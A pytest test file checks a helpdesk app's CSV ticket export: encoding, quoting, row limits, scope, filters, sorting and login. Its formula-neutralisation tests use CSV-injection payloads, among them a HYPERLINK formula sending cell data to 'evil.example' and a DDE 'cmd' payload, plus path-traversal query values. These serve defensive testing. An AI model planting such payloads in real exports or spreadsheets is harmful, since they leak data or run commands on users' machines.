"""The CSV export /tickets_csv/: a real CSV writer, formulas neutralised, the list's scope,
filters and sort, the row limit, UTF-8 with a BOM, sent as an attachment."""

import csv
import io
import re
from datetime import datetime, timedelta
from urllib.parse import urlsplit

import pytest
import sqlalchemy as sa

from flicket.admin.models import Config
from flicket.tickets.models import Subscription
from tests import factories as f

HEADER = [
    "Ticket_ID",
    "Priority",
    "Title",
    "Submitted By",
    "Date",
    "Replies",
    "Category",
    "Status",
    "Assigned",
    "URL",
]
DAY0 = datetime(2024, 3, 1, 9, 0, 0)


def read_csv(response):
    """(header, rows) of a CSV answer, checking the encoding on the way."""
    assert response.status_int == 200
    assert response.body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark
    text = response.body.decode("utf-8")[1:]
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return rows[0], rows[1:]


def titles(response):
    return [row[2] for row in read_csv(response)[1]]


def set_config(dbsession, **values):
    config = dbsession.scalars(sa.select(Config).order_by(Config.id).limit(1)).one()
    for name, value in values.items():
        setattr(config, name, value)
    dbsession.flush()


def test_header_rows_and_attachment(dbsession, login_as, users):
    ticket = f.make_ticket(
        dbsession,
        users["bob"],
        "Printer jam",
        priority_name="high",
        category_name="Intranet",
        assigned=users["carol"],
        when=datetime(2024, 5, 6, 7, 8, 9),
    )
    f.make_post(dbsession, ticket, users["alice"])
    f.make_post(dbsession, ticket, users["carol"])
    unassigned = f.make_ticket(
        dbsession,
        users["alice"],
        "Unassigned one",
        department="Design",
        category_name="ECN",
        priority_name="low",
    )
    response = login_as("alice").get("/tickets_csv/")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="\d{8}-\d{6}ticketdump\.csv"', disposition)
    assert response.body.split(b"\r\n")[0] == (
        b"\xef\xbb\xbfTicket_ID,Priority,Title,Submitted By,Date,Replies,Category,Status,"
        b"Assigned,URL"
    )
    header, rows = read_csv(response)
    assert header == HEADER
    assert rows == [
        [
            f"{ticket.id:05d}",
            "high",
            "Printer jam",
            "Bob Example",
            "2024-05-06",
            "2",
            "IT - Intranet",
            "Open",
            "Carol Example",
            f"http://example.com/ticket_view/{ticket.id}/",
        ],
        [
            f"{unassigned.id:05d}",
            "low",
            "Unassigned one",
            "Alice Example",
            unassigned.date_added.strftime("%Y-%m-%d"),
            "0",
            "Design - ECN",
            "Open",
            "Not assigned",
            f"http://example.com/ticket_view/{unassigned.id}/",
        ],
    ]


def test_url_uses_the_configured_base_url(dbsession, login_as, users):
    set_config(dbsession, base_url="https://desk.example.org/")
    ticket = f.make_ticket(dbsession, users["alice"], "Where am I")
    (row,) = read_csv(login_as("alice").get("/tickets_csv/"))[1]
    assert row[-1] == f"https://desk.example.org/ticket_view/{ticket.id}/"


def test_commas_quotes_and_newlines_round_trip(dbsession, login_as, users):
    users["bob"].name = 'Smith, "Bob"'
    dbsession.flush()
    title = 'Lunch, "free"\nsecond line'
    f.make_ticket(dbsession, users["bob"], title, assigned=users["bob"])
    response = login_as("alice").get("/tickets_csv/")
    header, rows = read_csv(response)
    assert len(rows) == 1
    (row,) = rows
    assert len(row) == len(HEADER)
    assert row[2] == title
    assert row[3] == 'Smith, "Bob"'
    assert row[8] == 'Smith, "Bob"'
    assert '"Lunch, ""free""' in response.body.decode("utf-8")


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1",
        "-1",
        "@SUM(A1:A2)",
        "\tcmd",
        "\r=1+1",
    ],
)
def test_formulas_are_neutralised(dbsession, login_as, users, title):
    f.make_ticket(dbsession, users["alice"], title)
    (row,) = read_csv(login_as("alice").get("/tickets_csv/"))[1]
    assert row[2] == "'" + title


def test_every_text_cell_is_neutralised(dbsession, login_as, users):
    users["bob"].name = "=cmd|' /C calc'!A0"
    users["carol"].name = "@carol"
    dbsession.flush()
    f.make_ticket(dbsession, users["bob"], "Safe title", assigned=users["carol"])
    (row,) = read_csv(login_as("alice").get("/tickets_csv/"))[1]
    assert row[2] == "Safe title"
    assert row[3] == "'=cmd|' /C calc'!A0"
    assert row[8] == "'@carol"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_utf8_names(dbsession, login_as, users):
    users["bob"].name = "Zoë Ångström-Łukasz"
    dbsession.flush()
    f.make_ticket(dbsession, users["bob"], "Café crème ☕")
    (row,) = read_csv(login_as("alice").get("/tickets_csv/"))[1]
    assert row[2] == "Café crème ☕"
    assert row[3] == "Zoë Ångström-Łukasz"


def test_row_limit(dbsession, login_as, users):
    for n in range(5):
        f.make_ticket(dbsession, users["alice"], f"Ticket {n}")
    app = login_as("alice")
    set_config(dbsession, csv_dump_limit=3)
    assert titles(app.get("/tickets_csv/?sort=ticketid")) == ["Ticket 0", "Ticket 1", "Ticket 2"]
    set_config(dbsession, csv_dump_limit=None)  # unset: the default of 1000
    assert len(titles(app.get("/tickets_csv/"))) == 5


def test_empty_export_has_the_header(login_as):
    header, rows = read_csv(login_as("alice").get("/tickets_csv/"))
    assert header == HEADER
    assert rows == []


def test_scope(dbsession, login_as, users):
    alice, bob, carol = users["alice"], users["bob"], users["carol"]
    f.make_ticket(dbsession, alice, "Mine")
    f.make_ticket(dbsession, bob, "Assigned to me", assigned=alice, subscribe=False)
    watched = f.make_ticket(dbsession, carol, "Watched")
    dbsession.add(Subscription(ticket_id=watched.id, user_id=alice.id))
    f.make_ticket(dbsession, carol, "Someone else's")
    dbsession.flush()
    app = login_as("alice")
    everything = ["Assigned to me", "Mine", "Someone else's", "Watched"]
    assert titles(app.get("/tickets_csv/?sort=title")) == everything
    assert titles(app.get("/tickets_csv/?scope=all&sort=title")) == everything
    assert titles(app.get("/tickets_csv/?scope=mine&sort=title")) == ["Assigned to me", "Mine"]
    assert titles(app.get("/tickets_csv/?scope=subscribed&sort=title")) == ["Mine", "Watched"]
    # An unknown scope is the whole list.
    assert titles(app.get("/tickets_csv/?scope=evil&sort=title")) == everything


def test_filters_and_sort(dbsession, login_as, users):
    alice, bob = users["alice"], users["bob"]
    f.make_ticket(dbsession, alice, "B printer", when=DAY0)
    f.make_ticket(dbsession, bob, "A printer", department="Design", when=DAY0 + timedelta(1))
    f.make_ticket(dbsession, bob, "C printer done", status_name="Closed", assigned=alice)
    f.make_ticket(dbsession, bob, "Scanner", "The scanner is jammed.")
    app = login_as("alice")
    # Closed tickets are left out unless asked for, as in the list.
    assert titles(app.get("/tickets_csv/?content=printer&sort=title")) == [
        "A printer",
        "B printer",
    ]
    assert titles(app.get("/tickets_csv/?content=printer&sort=title_desc")) == [
        "B printer",
        "A printer",
    ]
    assert titles(app.get("/tickets_csv/?status=Closed")) == ["C printer done"]
    assert titles(app.get("/tickets_csv/?department=Design")) == ["A printer"]
    assert titles(app.get("/tickets_csv/?category=Other&sort=addedon_desc")) == [
        "Scanner",  # created now, the others in 2024
        "A printer",
        "B printer",
    ]
    assert titles(app.get(f"/tickets_csv/?user_id={alice.id}&status=Closed")) == ["C printer done"]
    assert titles(app.get("/tickets_csv/?username=alice")) == ["B printer"]
    assert titles(app.get("/tickets_csv/?username=nobody")) == []
    assert titles(app.get(f"/tickets_csv/?created_id={bob.id}&sort=title")) == [
        "A printer",
        "Scanner",
    ]


def test_the_list_link_exports_what_the_list_shows(dbsession, login_as, users):
    alice, bob = users["alice"], users["bob"]
    f.make_ticket(dbsession, alice, "Mine in work", status_name="In Work")
    f.make_ticket(dbsession, alice, "Mine open")
    f.make_ticket(dbsession, bob, "Not mine", status_name="In Work")
    app = login_as("alice")
    page = app.get("/my_tickets/?status=In+Work")
    (link,) = [a["href"] for a in page.html.select("a.csv-link")]
    assert urlsplit(link).path == "/tickets_csv/"
    assert titles(app.get(link)) == ["Mine in work"]


def test_sort_cookie_applies(dbsession, login_as, users):
    f.make_ticket(dbsession, users["alice"], "Zulu", priority_name="high")
    f.make_ticket(dbsession, users["alice"], "Alpha", priority_name="low")
    app = login_as("alice")
    assert titles(app.get("/tickets_csv/")) == ["Zulu", "Alpha"]  # priority_desc
    app.get("/tickets/?sort=title")
    assert titles(app.get("/tickets_csv/")) == ["Alpha", "Zulu"]


@pytest.mark.parametrize(
    "query",
    [
        "status=nonsense",
        "user_id=abc",
        "assigned_id=99999999999999999999",
        "sort=evil",
        "scope=../../etc",
        "content=%25_%27%22",
        "content=" + "y" * 10240,
    ],
)
def test_bad_parameters_never_fail(dbsession, login_as, users, query):
    f.make_ticket(dbsession, users["alice"], "Something")
    header, _rows = read_csv(login_as("alice").get("/tickets_csv/?" + query))
    assert header == HEADER


def test_anonymous_is_sent_to_login(testapp):
    response = testapp.get("/tickets_csv/?scope=mine", status=302)
    assert urlsplit(response.location).path == "/login"
